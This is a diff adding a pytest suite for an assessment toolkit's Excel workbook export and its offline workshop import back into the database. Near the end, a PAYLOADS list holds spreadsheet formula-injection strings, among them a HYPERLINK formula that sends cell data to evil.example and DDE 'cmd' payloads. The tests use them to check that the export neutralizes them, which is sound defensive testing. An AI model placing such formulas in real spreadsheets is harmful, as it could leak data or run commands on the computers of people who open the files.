@@ -1,0 +1,745 @@
+"""The Excel workbook: what it shows, and the offline workshop round trip back into the database.
+
+Every test works on the demo data (assessment 2 is the in-progress review, 3 the barely started
+draft, 1 the final baseline) in a SQLite file of its own, copied from one demo load per module.
+"""
+
+from __future__ import annotations
+
+import io
+import shutil
+from collections.abc import Callable, Iterator
+from datetime import date
+from pathlib import Path
+
+import openpyxl
+import pytest
+from openpyxl.worksheet.worksheet import Worksheet
+
+from assessment.demo import load_demo
+from assessment.errors import AssessmentLocked
+from assessment.findings import Finding
+from assessment.numbers import percent
+from assessment.reports.data import ReportData, gather_report
+from assessment.reports.excel_export import write_workbook
+from assessment.reports.excel_import import (
+    CellFault,
+    WorkbookChanges,
+    WorkbookRefused,
+    apply_workbook_changes,
+    read_workbook,
+)
+from assessment.reports.excel_layout import META_SHEET
+from assessment.reports.spreadsheet_safety import neutralize
+from assessment.responses import Response
+from assessment.services import assessments as A
+from assessment.services.actions import create_action
+from assessment.services.assessments import open_assessment
+from assessment.services.audit import events
+from assessment.services.evidence import add_note
+from assessment.services.responses import set_response
+from assessment.storage.store import Store
+
+TODAY = date(2026, 3, 15)
+ACTOR = "Maria Nowak (workshop import)"
+SHEETS = ["Summary", "Clauses", "Criteria", "Findings", "Actions", "Evidence"]
+# The Criteria columns as exported (import finds them by header; tests use the letters).
+ID, TARGET, SCORE, NA, NOTES, FINDING, REASON = "A", "D", "F", "G", "H", "I", "J"
+
+
+@pytest.fixture(scope="module")
+def demo_file(tmp_path_factory) -> Path:
+    """One demo load per module (the slow part); each test copies the file."""
+    path = tmp_path_factory.mktemp("demo") / "demo.db"
+    store = Store.open(f"sqlite:///{path}")
+    load_demo(store, today=TODAY)
+    store.dispose()
+    return path
+
+
+@pytest.fixture
+def demo(demo_file: Path, tmp_path: Path) -> Iterator[Store]:
+    """The demo data in a database file of this test's own."""
+    copy = tmp_path / "iso10002.db"
+    shutil.copy(demo_file, copy)
+    opened = Store.open(f"sqlite:///{copy}")
+    yield opened
+    opened.dispose()
+
+
+@pytest.fixture(scope="module")
+def review(demo_file: Path, tmp_path_factory) -> tuple[ReportData, Path]:
+    """Assessment 2's report data and workbook, exported once from the demo as loaded: every
+    test's own copy of the demo holds the same responses and versions. Tests must not edit the
+    file in place (`edited` returns new bytes)."""
+    folder = tmp_path_factory.mktemp("exported")
+    shutil.copy(demo_file, folder / "demo.db")
+    store = Store.open(f"sqlite:///{folder / 'demo.db'}")
+    data = gather_report(store, 2, today=TODAY)
+    store.dispose()
+    return data, write_workbook(data, folder / "review.xlsx")
+
+
+@pytest.fixture(scope="module")
+def exported(review) -> tuple[ReportData, openpyxl.Workbook]:
+    """Assessment 2's workbook, opened with openpyxl, for the tests that only read it."""
+    data, path = review
+    return data, openpyxl.load_workbook(path)
+
+
+def export(store: Store, tmp_path: Path, assessment_id: int = 2) -> Path:
+    return write_workbook(
+        gather_report(store, assessment_id, today=TODAY), tmp_path / f"a{assessment_id}.xlsx"
+    )
+
+
+def row_of(sheet: Worksheet, criterion_id: str) -> int:
+    for row in range(2, sheet.max_row + 1):
+        if sheet[f"{ID}{row}"].value == criterion_id:
+            return row
+    raise AssertionError(f"{criterion_id} not in the sheet")
+
+
+def edited(path: Path, change: Callable[[Worksheet], None]) -> bytes:
+    """The workbook after a client's edits in the Criteria sheet, as the bytes they send back."""
+    workbook = openpyxl.load_workbook(path)
+    change(workbook["Criteria"])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def set_cells(cells: dict[str, object]) -> Callable[[Worksheet], None]:
+    """A client's edits, as {"F12": 3}."""
+
+    def change(sheet: Worksheet) -> None:
+        for ref, value in cells.items():
+            sheet[ref] = value
+
+    return change
+
+
+def stored(store: Store, assessment_id: int = 2) -> dict[str, tuple[Response, int]]:
+    opened = open_assessment(store, assessment_id, today=TODAY)
+    return {cid: (s.response, s.version) for cid, s in opened.responses.items()}
+
+
+def preview(store: Store, content: bytes | Path, assessment_id: int = 2) -> WorkbookChanges:
+    return read_workbook(content, open_assessment(store, assessment_id, today=TODAY))
+
+
+def unanswered(data: ReportData) -> str:
+    return next(
+        c.id for c in data.assessment.checklist.criteria if c.id not in data.assessment.responses
+    )
+
+
+# --- what the workbook shows ----------------------------------------------------------------
+
+
+def test_the_workbook_has_six_sheets_and_a_very_hidden_key(exported) -> None:
+    _, workbook = exported
+    assert workbook.sheetnames == [*SHEETS, META_SHEET]
+    assert [s.sheet_state for s in workbook.worksheets] == ["visible"] * 6 + ["veryHidden"]
+    key = {row[0]: row[1] for row in workbook[META_SHEET].iter_rows(values_only=True)}
+    assert key["assessment_id"] == 2
+    assert key["format"] == "iso10002-workbook/1"
+    assert key["checklist_hash"].startswith("sha256:")
+
+
+@pytest.mark.parametrize(
+    ("sheet", "freeze", "first_header"),
+    [
+        ("Clauses", "A2", "Ref"),
+        ("Criteria", "B2", "ID"),
+        ("Findings", "A2", "ID"),
+        ("Actions", "C2", "Ref"),
+        ("Evidence", "C2", "Ref"),
+    ],
+)
+def test_every_table_has_a_styled_header_frozen_panes_and_a_filter(
+    exported, sheet, freeze, first_header
+) -> None:
+    table = exported[1][sheet]
+    assert table.freeze_panes == freeze
+    header = table["A1"]
+    assert header.value == first_header
+    assert header.font.bold
+    assert header.fill.fgColor.rgb.endswith("1F4E78")
+    assert table.auto_filter.ref.startswith("A1:")
+    assert table.column_dimensions["A"].width > 0
+
+
+def test_the_score_column_drops_down_the_scale_and_na(exported) -> None:
+    data, workbook = exported
+    sheet = workbook["Criteria"]
+    assert sheet[f"{SCORE}1"].value == "Score"
+    validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
+    last = 1 + len(data.assessment.checklist.criteria)
+    score = validations[f"{SCORE}2:{SCORE}{last}"]
+    assert score.type == "list"
+    assert score.formula1 == '"0,1,2,3,4,5,N/A"'
+    assert score.showErrorMessage
+    finding = validations[f"{FINDING}2:{FINDING}{last}"]
+    assert finding.formula1 == '"' + ",".join(f.label for f in Finding) + '"'
+
+
+def test_colours_are_conditional_on_score_readiness_findings_overdue_and_status(exported) -> None:
+    workbook = exported[1]
+    ranges = {
+        sheet: {str(cf.sqref) for cf in workbook[sheet].conditional_formatting}
+        for sheet in SHEETS[1:]
+    }
+    last = workbook["Criteria"].max_row
+    assert f"{SCORE}2:{SCORE}{last}" in ranges["Criteria"]
+    rules = [r for cf in workbook["Criteria"].conditional_formatting for r in cf.rules]
+    assert [r.formula[0] for r in rules] == [
+        '$F2="N/A"',
+        "AND(ISNUMBER($F2),$F2>=$D2)",
+        "AND(ISNUMBER($F2),$D2-$F2>=2)",
+        "AND(ISNUMBER($F2),$F2<$D2)",
+    ]
+    assert any(r.startswith("D2:") for r in ranges["Clauses"])
+    assert any(r.startswith("G2:") for r in ranges["Findings"])
+    assert any(r.startswith("A2:S") for r in ranges["Actions"])
+    assert any(r.startswith("E2:") for r in ranges["Evidence"])
+
+
+def test_criteria_rows_match_the_report_data(exported) -> None:
+    data, workbook = exported
+    sheet = workbook["Criteria"]
+    opened = data.assessment
+    assert sheet.max_row == 1 + len(opened.checklist.criteria)
+    for row, result in enumerate(opened.score.criteria, start=2):
+        stored_response = opened.responses.get(result.id)
+        response = stored_response.response if stored_response else Response()
+        assert sheet[f"{ID}{row}"].value == result.id
+        assert sheet[f"{TARGET}{row}"].value == result.target
+        expected_score = "N/A" if response.is_not_applicable else response.score
+        assert sheet[f"{SCORE}{row}"].value == expected_score, result.id
+        assert sheet[f"{NA}{row}"].value == (response.not_applicable or None)
+        assert sheet[f"{NOTES}{row}"].value == (neutralize(response.notes) or None)
+        assert sheet[f"{FINDING}{row}"].value == (
+            response.finding.label if response.finding else None
+        )
+        assert sheet[f"O{row}"].value == opened.version_of(result.id)  # hidden version
+
+
+def test_summary_shows_readiness_completion_verdict_and_every_reason(exported) -> None:
+    data, workbook = exported
+    sheet = workbook["Summary"]
+    facts = {row[0]: row[1] for row in sheet.iter_rows(min_row=4, max_col=2, values_only=True)}
+    overall = data.assessment.score.overall
+    assert facts["Organization"] == data.assessment.record.organization_name
+    assert facts["Readiness"] == pytest.approx(overall.readiness)
+    assert facts["Completion"] == pytest.approx(overall.completion)
+    assert facts["Verdict"] == overall.verdict.label
+    assert facts["Overdue actions"] == len(data.overdue_actions())
+    assert facts["Baseline readiness"] == percent(data.comparison.readiness_before)
+    messages = {row[1] for row in sheet.iter_rows(min_row=4, max_col=2, values_only=True)}
+    assert {r.message for r in overall.reasons} <= messages
+    assert "not a certification" in sheet["A2"].value
+
+
+def test_clauses_show_each_clause_readiness(exported) -> None:
+    data, workbook = exported
+    rows = list(workbook["Clauses"].iter_rows(min_row=2, values_only=True))
+    clauses = data.assessment.score.clauses
+    assert [r[0] for r in rows] == [c.ref for c in clauses]
+    for row, clause in zip(rows, clauses, strict=True):
+        assert row[3] == (pytest.approx(clause.readiness) if clause.readiness is not None else None)
+        assert row[5:8] == (clause.answered, clause.applicable, clause.total)
+
+
+def test_findings_list_nonconformities_and_opportunities_most_serious_first(exported) -> None:
+    data, workbook = exported
+    rows = list(workbook["Findings"].iter_rows(min_row=2, values_only=True))
+    expected = [
+        c
+        for c in data.assessment.score.criteria
+        if c.finding and c.finding is not Finding.CONFORMING
+    ]
+    assert sorted(r[0] for r in rows) == sorted(c.id for c in expected)
+    order = [Finding.MAJOR.label, Finding.MINOR.label, Finding.OFI.label]
+    labels = [r[6] for r in rows]
+    assert labels == sorted(labels, key=order.index)
+
+
+def test_the_actions_sheet_flags_exactly_the_overdue_actions(exported) -> None:
+    data, workbook = exported
+    rows = list(workbook["Actions"].iter_rows(min_row=2, values_only=True))
+    assert [r[0] for r in rows] == [a.ref for a in data.actions]
+    overdue = {r[0] for r in rows if r[8] == "Yes"}
+    assert overdue == {a.ref for a in data.overdue_actions()}
+    assert overdue  # the demo has overdue actions as of TODAY
+    for row, action in zip(rows, data.actions, strict=True):
+        assert row[5] == (action.owner or None)
+        assert (row[6].date() if row[6] else None) == action.due
+
+
+def test_the_evidence_sheet_shows_hash_dates_and_status_as_of_the_day(exported) -> None:
+    data, workbook = exported
+    rows = list(workbook["Evidence"].iter_rows(min_row=2, values_only=True))
+    assert len(rows) == len(data.evidence)
+    for row, record in zip(rows, data.evidence, strict=True):
+        assert row[0] == record.ref
+        assert row[4] == record.status_on(TODAY).label
+        assert row[8] == record.sha256
+        assert (row[7].date() if row[7] else None) == record.valid_until
+    assert "Expired" in {r[4] for r in rows}
+
+
+def test_only_the_response_cells_are_open_and_the_helpers_are_hidden(exported) -> None:
+    sheet = exported[1]["Criteria"]
+    assert sheet.protection.sheet
+    assert [sheet[f"{c}2"].protection.locked for c in "ABCDEFGHIJKLMNOP"] == [
+        *[True] * 5,
+        *[False] * 5,
+        *[True] * 6,
+    ]
+    assert [sheet.column_dimensions[c].hidden for c in "MNOP"] == [False, True, True, True]
+
+
+def test_nothing_in_the_workbook_is_a_formula(exported) -> None:
+    for sheet in exported[1].worksheets:
+        for row in sheet.iter_rows():
+            assert all(cell.data_type != "f" for cell in row), sheet.title
+
+
+def test_write_workbook_replaces_the_file_whole_and_leaves_no_temporary(demo, tmp_path) -> None:
+    target = tmp_path / "out.xlsx"
+    target.write_bytes(b"an older report")
+    data = gather_report(demo, 3, today=TODAY)
+    assert write_workbook(data, target) == target
+    assert openpyxl.load_workbook(target).sheetnames[0] == "Summary"
+    assert sorted(p.name for p in tmp_path.iterdir() if "out" in p.name) == ["out.xlsx"]
+    with pytest.raises(FileNotFoundError):
+        write_workbook(data, tmp_path / "no such folder" / "out.xlsx")
+
+
+# --- the workshop round trip -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("assessment_id", [2, 3])
+def test_a_workbook_sent_back_untouched_changes_nothing(demo, tmp_path, assessment_id) -> None:
+    path = export(demo, tmp_path, assessment_id)
+    changes = preview(demo, edited(path, lambda sheet: None), assessment_id)
+    assert (changes.changes, changes.faults, changes.missing) == ((), (), ())
+
+
+def test_the_round_trip_applies_exactly_the_workshop_edits_and_names_the_actor(
+    demo, review
+) -> None:
+    path = review[1]
+    data = gather_report(demo, 2, today=TODAY)
+    sheet = openpyxl.load_workbook(path)["Criteria"]
+    fresh = unanswered(data)
+    r_score, r_notes, r_na, r_new = (row_of(sheet, c) for c in ("4.1.a", "4.1.b", "4.1.c", fresh))
+    before = stored(demo)
+    content = edited(
+        path,
+        set_cells(
+            {
+                f"{SCORE}{r_score}": 5,
+                f"{NOTES}{r_notes}": "Seen the signed mapping, 12 March",
+                f"{SCORE}{r_na}": "N/A",
+                f"{NA}{r_na}": "No change to the process this year",
+                f"{SCORE}{r_new}": 2,
+                f"{NOTES}{r_new}": "Answered in the workshop",
+                f"{FINDING}{r_new}": "Opportunity for improvement",
+                f"{REASON}{r_new}": "Works, but could be faster",
+            }
+        ),
+    )
+    changes = preview(demo, content)
+    assert changes.faults == ()
+    assert [
+        (c.criterion_id, [(f.field, f.before, f.after) for f in c.fields]) for c in changes.changes
+    ] == [
+        ("4.1.a", [("score", 3, 5)]),
+        ("4.1.b", [("notes", before["4.1.b"][0].notes, "Seen the signed mapping, 12 March")]),
+        (
+            "4.1.c",
+            [("score", 2, "N/A"), ("not_applicable", None, "No change to the process this year")],
+        ),
+        (
+            fresh,
+            [
+                ("score", None, 2),
+                ("notes", "", "Answered in the workshop"),
+                ("finding", None, Finding.OFI),
+                ("finding_reason", None, "Works, but could be faster"),
+            ],
+        ),
+    ]
+    assert str(changes.changes[0]) == "4.1.a: score: 3 → 5"
+
+    written = apply_workbook_changes(demo, ACTOR, 2, changes)
+
+    assert set(written) == {"4.1.a", "4.1.b", "4.1.c", fresh}
+    after = stored(demo)
+    assert after["4.1.a"] == (Response(5, notes=before["4.1.a"][0].notes), 2)
+    assert after["4.1.b"][0].notes == "Seen the signed mapping, 12 March"
+    assert after["4.1.c"][0].not_applicable == "No change to the process this year"
+    assert after[fresh] == (
+        Response(2, None, "Answered in the workshop", Finding.OFI, "Works, but could be faster"),
+        1,
+    )
+    untouched = set(before) - {"4.1.a", "4.1.b", "4.1.c"}
+    assert {cid: after[cid] for cid in untouched} == {cid: before[cid] for cid in untouched}
+    for cid in ("4.1.a", "4.1.b", "4.1.c", fresh):
+        assert {e.actor for e in events(demo, 2, criterion_id=cid)} >= {ACTOR}
+    assert [
+        (e.field, e.before, e.after)
+        for e in events(demo, 2, criterion_id="4.1.a")
+        if e.actor == ACTOR
+    ] == [("score", 3, 5)]
+
+
+def test_a_blank_workbook_works_the_same(demo, tmp_path) -> None:
+    current = open_assessment(demo, 2, today=TODAY)
+    blank = A.create_assessment(
+        demo, "maria", current.record.organization_id, current.checklist, "Workshop 2027"
+    )
+    path = export(demo, tmp_path, blank.id)
+    sheet = openpyxl.load_workbook(path)["Criteria"]
+    assert {sheet[f"{SCORE}{r}"].value for r in range(2, sheet.max_row + 1)} == {None}
+    changes = preview(
+        demo,
+        edited(path, set_cells({"F2": 3, "F3": "4", "F4": "n/a", "G4": "Not offered"})),
+        blank.id,
+    )
+    assert [c.criterion_id for c in changes.changes] == ["4.1.a", "4.1.b", "4.1.c"]
+    apply_workbook_changes(demo, ACTOR, blank.id, changes)
+    assert stored(demo, blank.id) == {
+        "4.1.a": (Response(3), 1),
+        "4.1.b": (Response(4), 1),
+        "4.1.c": (Response(None, "Not offered"), 1),
+    }
+
+
+@pytest.mark.parametrize(
+    ("kind", "cells", "fault"),
+    [
+        ("off the scale", {"F2": 7}, "Criteria!F2: 7 is not on the scale (0 to 5)"),
+        ("negative", {"F2": -1}, "Criteria!F2: -1 is not on the scale (0 to 5)"),
+        ("fraction", {"F2": 2.5}, "Criteria!F2: 2.5 is not a whole number on the scale (0 to 5)"),
+        (
+            "text in the score",
+            {"F2": "good"},
+            "Criteria!F2: 'good' is not a score: pick 0 to 5 or N/A",
+        ),
+        ("N/A without reason", {"F2": "N/A"}, "Criteria!G2: N/A needs a reason"),
+        (
+            "score and N/A reason",
+            {"G2": "Not for us"},
+            "Criteria!F2: both a score (3) and a N/A reason (G2) are given",
+        ),
+        (
+            "reason without N/A",
+            {"F2": None, "G2": "Not for us"},
+            "Criteria!G2: a N/A reason needs N/A in F2",
+        ),
+        (
+            "override without reason",
+            {"I2": "Minor nonconformity"},
+            "Criteria!J2: a finding override needs a reason",
+        ),
+        (
+            "reason without override",
+            {"J2": "Because"},
+            "Criteria!I2: a finding reason (J2) needs a finding override here",
+        ),
+        (
+            "unknown finding",
+            {"I2": "Severe", "J2": "x"},
+            "Criteria!I2: 'Severe' is not a finding class",
+        ),
+        ("formula in notes", {"H2": "=1+2"}, "Criteria!H2: a formula is not taken here"),
+        ("formula in the score", {"F2": "=2+1"}, "Criteria!F2: a formula is not taken here"),
+        (
+            "changed criterion id",
+            {"A2": "4.1.z"},
+            "Criteria!A2: the criterion id was changed from 4.1.a to '4.1.z'",
+        ),
+        ("added row", {"A200": "4.99.x", "F200": 3}, "Criteria!A200: unknown criterion '4.99.x'"),
+        (
+            "added row of a known id",
+            {"A200": "4.1.a", "F200": 3},
+            "Criteria!A200: a row added by hand for 4.1.a",
+        ),
+        ("values without an id", {"F200": 3}, "Criteria!A200: a row without a criterion id"),
+        (
+            "copied row",
+            {"A200": "4.1.a", "N200": "4.1.a", "O200": 1, "P200": "0" * 20},
+            "Criteria!A200: 4.1.a is listed twice (rows 2 and 200)",
+        ),
+        ("helper changed", {"F2": 4, "O2": "two"}, "Criteria!O2: a hidden helper cell was changed"),
+    ],
+)
+def test_each_invalid_cell_is_reported_and_nothing_is_applied(
+    demo, review, kind, cells, fault
+) -> None:
+    path = review[1]
+    assert openpyxl.load_workbook(path)["Criteria"]["A2"].value == "4.1.a"
+    # Every case also carries one valid edit, which must not be applied either.
+    content = edited(path, set_cells({"F3": 5, **cells}))
+    before = stored(demo)
+    changes = preview(demo, content)
+    assert len(changes.faults) == 1, changes.faults
+    assert str(changes.faults[0]).startswith(fault), kind
+    with pytest.raises(WorkbookRefused) as refused:
+        apply_workbook_changes(demo, ACTOR, 2, changes)
+    assert refused.value.faults == changes.faults
+    assert str(changes.faults[0]) in str(refused.value)
+    assert stored(demo) == before
+
+
+def test_every_invalid_cell_is_reported_at_once(demo, review) -> None:
+    path = review[1]
+    content = edited(
+        path, set_cells({"F2": 9, "H3": "=A1", "F4": "N/A", "I5": "Major nonconformity"})
+    )
+    faults = preview(demo, content).faults
+    assert faults == (
+        CellFault("Criteria", "F2", "9 is not on the scale (0 to 5)"),
+        CellFault("Criteria", "H3", "a formula is not taken here: type the value itself"),
+        CellFault("Criteria", "G4", "N/A needs a reason: say why this criterion does not apply"),
+        CellFault("Criteria", "J5", "a finding override needs a reason"),
+    )
+
+
+def test_a_row_left_alone_is_not_imported_even_when_the_app_changed_it(demo, review) -> None:
+    path = review[1]
+    set_response(demo, "deniz", 2, "4.1.a", Response(1, notes="Rechecked"), expected_version=1)
+    changes = preview(demo, edited(path, set_cells({"F3": 5})))
+    assert [c.criterion_id for c in changes.changes] == ["4.1.b"]
+    apply_workbook_changes(demo, ACTOR, 2, changes)
+    assert stored(demo)["4.1.a"] == (Response(1, notes="Rechecked"), 2)
+
+
+def test_editing_a_response_changed_in_the_app_since_the_export_is_a_conflict(demo, review) -> None:
+    path = review[1]
+    set_response(demo, "deniz", 2, "4.1.a", Response(1, notes="Rechecked"), expected_version=1)
+    before = stored(demo)
+    changes = preview(demo, edited(path, set_cells({"F2": 4, "F3": 5})))
+    assert len(changes.faults) == 1
+    fault = changes.faults[0]
+    assert (fault.sheet, fault.cell) == ("Criteria", "F2")
+    assert "4.1.a was changed in the app by deniz" in fault.message
+    assert "(version 1, now 2)" in fault.message
+    with pytest.raises(WorkbookRefused):
+        apply_workbook_changes(demo, ACTOR, 2, changes)
+    assert stored(demo) == before
+
+
+def test_a_change_between_preview_and_apply_stops_the_whole_import(demo, review) -> None:
+    path = review[1]
+    data = gather_report(demo, 2, today=TODAY)
+    fresh = unanswered(data)
+    sheet = openpyxl.load_workbook(path)["Criteria"]
+    changes = preview(demo, edited(path, set_cells({"F2": 4, **{f"F{row_of(sheet, fresh)}": 1}})))
+    assert changes.ok
+    assert len(changes.changes) == 2
+    set_response(demo, "deniz", 2, fresh, Response(3), expected_version=0)
+    before = stored(demo)
+    with pytest.raises(WorkbookRefused) as refused:
+        apply_workbook_changes(demo, ACTOR, 2, changes)
+    assert [f.cell for f in refused.value.faults] == [f"F{row_of(sheet, fresh)}"]
+    assert stored(demo) == before
+
+
+def test_the_same_change_already_made_in_the_app_is_not_a_conflict(demo, review) -> None:
+    path = review[1]
+    notes = stored(demo)["4.1.a"][0].notes
+    set_response(demo, "deniz", 2, "4.1.a", Response(4, notes=notes), expected_version=1)
+    changes = preview(demo, edited(path, set_cells({"F2": 4})))
+    assert (changes.changes, changes.faults) == ((), ())
+
+
+def test_deleted_rows_are_listed_and_left_as_they_are(demo, review) -> None:
+    path = review[1]
+    before = stored(demo)
+    changes = preview(demo, edited(path, lambda sheet: sheet.delete_rows(2, 2)))
+    assert (changes.changes, changes.faults, changes.missing) == ((), (), ("4.1.a", "4.1.b"))
+    apply_workbook_changes(demo, ACTOR, 2, changes)
+    assert stored(demo) == before
+
+
+def test_sorted_rows_and_moved_columns_still_import(demo, review) -> None:
+    path = review[1]
+
+    def shuffle(sheet: Worksheet) -> None:
+        rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
+        for index, values in enumerate(reversed(rows), start=2):
+            for column, value in enumerate(values, start=1):
+                sheet.cell(index, column).value = value
+        sheet.insert_cols(1)  # a column of the client's own, in front
+        sheet["A1"] = "Our remarks"
+        sheet[f"G{row_of_shifted(sheet, '4.1.a')}"] = 0
+
+    changes = preview(demo, edited(path, shuffle))
+    assert changes.faults == ()
+    assert [(str(c)) for c in changes.changes] == ["4.1.a: score: 3 → 0"]
+
+
+def row_of_shifted(sheet: Worksheet, criterion_id: str) -> int:
+    return next(r for r in range(2, sheet.max_row + 1) if sheet[f"B{r}"].value == criterion_id)
+
+
+# --- refused workbooks --------------------------------------------------------------------------
+
+
+def test_a_workbook_of_another_assessment_is_refused(demo, tmp_path) -> None:
+    path = export(demo, tmp_path, 3)
+    with pytest.raises(WorkbookRefused, match="belongs to assessment 3") as refused:
+        preview(demo, path, 2)
+    assert "import it into the assessment it was exported from" in str(refused.value)
+
+
+def test_a_workbook_made_with_other_checklist_content_is_refused(demo, tmp_path) -> None:
+    path = export(demo, tmp_path)
+    workbook = openpyxl.load_workbook(path)
+    key = workbook[META_SHEET]
+    row = next(r for r in range(1, key.max_row + 1) if key.cell(r, 1).value == "checklist_hash")
+    key.cell(row, 2).value = "sha256:" + "0" * 64
+    workbook.save(path)
+    with pytest.raises(WorkbookRefused, match="exported against other checklist content"):
+        preview(demo, path)
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"name,score\n4.1.a,3\n", "not an Excel workbook"),
+        (b"", "not an Excel workbook"),
+        ("plain workbook", "not exported by the toolkit"),
+        ("no score column", "no column headed 'Score'"),
+    ],
+)
+def test_a_file_that_is_not_an_exported_workbook_is_refused(
+    demo, tmp_path, content, message
+) -> None:
+    if content == "plain workbook":
+        buffer = io.BytesIO()
+        openpyxl.Workbook().save(buffer)
+        content = buffer.getvalue()
+    elif content == "no score column":
+        content = edited(export(demo, tmp_path), set_cells({"F1": "Mark"}))
+    with pytest.raises(WorkbookRefused, match=message):
+        preview(demo, content)
+
+
+def test_a_missing_file_is_refused_with_its_name(demo, tmp_path) -> None:
+    with pytest.raises(WorkbookRefused, match=r"cannot read .*missing\.xlsx"):
+        preview(demo, tmp_path / "missing.xlsx")
+
+
+def test_a_final_assessment_is_locked(demo, tmp_path) -> None:
+    path = export(demo, tmp_path, 1)
+    changes = preview(demo, edited(path, set_cells({"F2": 5})), 1)
+    assert changes.ok
+    assert len(changes.changes) == 1
+    before = stored(demo, 1)
+    with pytest.raises(AssessmentLocked):
+        apply_workbook_changes(demo, ACTOR, 1, changes)
+    assert stored(demo, 1) == before
+
+
+# --- user text that looks like a formula ---------------------------------------------------------
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\n@SUM(A1)",
+    "'=already quoted",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_formula_like_text_is_neutralized_and_survives_the_round_trip(
+    demo, tmp_path, payload
+) -> None:
+    set_response(
+        demo,
+        "deniz",
+        2,
+        "4.1.a",
+        Response(None, payload, payload),
+        expected_version=1,
+    )
+    set_response(
+        demo,
+        "deniz",
+        2,
+        "4.1.b",
+        Response(1, notes=payload, finding=Finding.MAJOR, finding_reason=payload),
+        expected_version=1,
+    )
+    path = export(demo, tmp_path)
+    sheet = openpyxl.load_workbook(path)["Criteria"]
+    for ref in ("G2", "H2", "H3", "J3"):
+        cell = sheet[ref]
+        assert cell.data_type == "s"
+        assert cell.value.startswith("'"), (ref, cell.value)
+        assert cell.value.replace("\r", "\n") == neutralize(payload).replace("\r", "\n")
+    # Sent back untouched, the text is not a change; edited elsewhere, it is kept as it was.
+    assert preview(demo, edited(path, lambda sheet: None)).changes == ()
+    changes = preview(demo, edited(path, set_cells({"F3": 2})))
+    apply_workbook_changes(demo, ACTOR, 2, changes)
+    after = stored(demo)
+    assert after["4.1.b"][0] == Response(
+        2, notes=payload, finding=Finding.MAJOR, finding_reason=payload
+    )
+
+
+@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.lstrip()[0] in "=+-@"])
+def test_titles_and_owners_that_look_like_formulas_are_neutralized(demo, tmp_path, payload) -> None:
+    create_action(demo, "deniz", 2, payload, criteria=["4.1.a"], owner=payload)
+    add_note(demo, "deniz", 2, "Seen on site", ["4.1.a"], title=payload, owner=payload)
+    workbook = openpyxl.load_workbook(export(demo, tmp_path))
+    action = list(workbook["Actions"].iter_rows(values_only=True))[-1]
+    record = list(workbook["Evidence"].iter_rows(values_only=True))[-1]
+    for value in (action[1], action[5], record[2], record[5]):
+        assert value.startswith("'"), value
+        assert value.lstrip("' \t\r\n")[0] in "=+-@", value
+
+
+def test_control_characters_that_xml_cannot_carry_do_not_break_the_export(demo, tmp_path) -> None:
+    notes = "Form\x0cfeed and\x0b tab, line\r\nends"
+    set_response(demo, "deniz", 2, "4.1.a", Response(3, notes=notes), expected_version=1)
+    path = export(demo, tmp_path)
+    assert openpyxl.load_workbook(path)["Criteria"]["H2"].value == "Formfeed and tab, line\nends"
+    changes = preview(demo, edited(path, set_cells({"F2": 4})))
+    apply_workbook_changes(demo, ACTOR, 2, changes)
+    assert stored(demo)["4.1.a"][0] == Response(4, notes=notes)  # nothing lost
+
+
+# --- both engines -----------------------------------------------------------------------------
+
+
+def test_export_and_import_on_each_engine(store, tmp_path) -> None:
+    """The conftest store: SQLite, and PostgreSQL when a server answers (aware timestamps,
+    another transaction model)."""
+    load_demo(store, today=TODAY)
+    path = export(store, tmp_path)
+    evidence = openpyxl.load_workbook(path)["Evidence"]
+    assert evidence["Q2"].value.tzinfo is None  # Excel has no time zones: stored UTC, naive
+    content = edited(path, set_cells({"F2": 5, "H3": "Workshop note"}))
+    set_response(store, "deniz", 2, "4.1.c", Response(0), expected_version=1)
+    conflicting = preview(store, edited(path, set_cells({"F2": 5, "F4": 4})))
+    assert [f.cell for f in conflicting.faults] == ["F4"]
+    before = stored(store)
+    with pytest.raises(WorkbookRefused):
+        apply_workbook_changes(store, ACTOR, 2, conflicting)
+    assert stored(store) == before
+    apply_workbook_changes(store, ACTOR, 2, preview(store, content))
+    after = stored(store)
+    assert after["4.1.a"][0].score == 5
+    assert after["4.1.b"][0].notes == "Workshop note"
+    assert {e.actor for e in events(store, 2, criterion_id="4.1.b")} >= {ACTOR}
